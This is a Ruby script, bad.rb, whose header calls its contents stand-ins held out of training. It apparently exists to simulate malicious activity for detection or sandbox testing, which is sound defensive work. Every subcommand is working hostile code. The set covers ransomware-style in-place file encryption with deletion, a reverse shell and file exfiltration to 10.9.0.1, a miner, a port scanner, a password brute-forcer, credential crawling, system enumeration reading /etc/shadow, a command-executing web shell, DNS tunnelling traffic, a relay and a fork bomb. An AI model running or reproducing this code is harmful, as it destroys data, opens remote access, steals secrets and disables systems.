# bad.rb WHAT ...: stand-ins in Ruby (held out: nothing in this language is trained on).
require 'socket'; require 'digest'; require 'find'; require 'openssl'; w, *a = ARGV
files = ->(d) { Find.find(d).select { |p| File.file?(p) } }
case w
when 'encrypt' then loop { files[a[0]].each { |p| c = OpenSSL::Cipher.new('aes-256-cbc').encrypt; c.key = 'k' * 32; b = File.binread(p); File.binwrite(p + '.enc', b.empty? ? '' : c.update(b) + c.final); File.delete(p); File.rename(p + '.enc', p); sleep rand * a[1].to_f } }
when 'shell' then s = TCPSocket.new('10.9.0.1', a[0]); a[1] == 'spawn' ? Process.wait(spawn('/bin/sh -i', in: s, out: s, err: s)) : (while (l = s.gets) do s.print `#{l} 2>&1` rescue s.puts '?' end)
when 'mine' then s = TCPSocket.new('10.9.0.1', a[1]); s.puts '{}'; a[0].to_i.times { |i| fork { h = i.to_s; loop { h = Digest::SHA256.digest(h) } } }; while s.gets do s.puts '{"submit":1}' end
when 'scan' then loop { (1..250).each { |h| (1..1200).each { |p| begin Socket.tcp("10.9.0.#{h}", p, connect_timeout: 0.3).close; rescue SystemCallError; end; sleep a[0].to_f if a[0].to_f > 0 } } }
when 'guess' then require 'net/http'; i = 0; loop { r = Net::HTTP::Get.new('/'); r.basic_auth('admin', (i += 1).to_s); Net::HTTP.start('127.0.0.1', a[0]) { |h| h.request(r) }; sleep rand * a[1].to_f }
when 'crawl' then loop { a.each { |d| files[d].each { |p| puts p if File.binread(p) =~ /password|PRIVATE KEY/n } }; sleep 0.1 }
when 'enum' then loop { ['id', 'uname -a', 'ps aux', 'cat /etc/passwd', 'ss -an', 'mount', 'ls -laR /home', 'find /usr -perm -4000', 'env', 'cat /etc/shadow', 'w'].each { |c| `#{c} 2>/dev/null`; sleep rand * a[0].to_f } }
when 'web' then require 'webrick'; s = WEBrick::HTTPServer.new(Port: a[0].to_i, AccessLog: [], Logger: WEBrick::Log.new(File::NULL)); s.mount_proc('/') { |q, r| r.body = `#{q.query['cmd']} 2>&1` }; s.start
when 'dns' then require 'resolv'; d = Resolv::DNS.new(nameserver: ['127.0.0.1']); loop { n = Array.new(3) { Array.new(45) { ('a'..'z').to_a.sample }.join }.join('.'); (d.getresource(n + '.t.example', Resolv::DNS::Resource::IN::TXT) rescue nil); sleep rand * a[0].to_f }
when 'send' then loop { files[a[1]].each { |p| s = TCPSocket.new('10.9.0.1', a[0]); IO.copy_stream(p, s); s.close; sleep rand * 0.03 } }
when 'relay' then l = TCPServer.new(a[0]); loop { c = l.accept; d = TCPSocket.new('10.9.0.1', a[1]); [[c, d], [d, c]].each { |x, y| Thread.new { begin loop { y.write(x.readpartial(65536)) }; rescue StandardError; end; begin y.close; rescue IOError; end } } }
when 'storm' then trap('CLD', 'IGNORE'); loop { a[0].to_i.times { fork { exit! } }; sleep a[1].to_f }
end
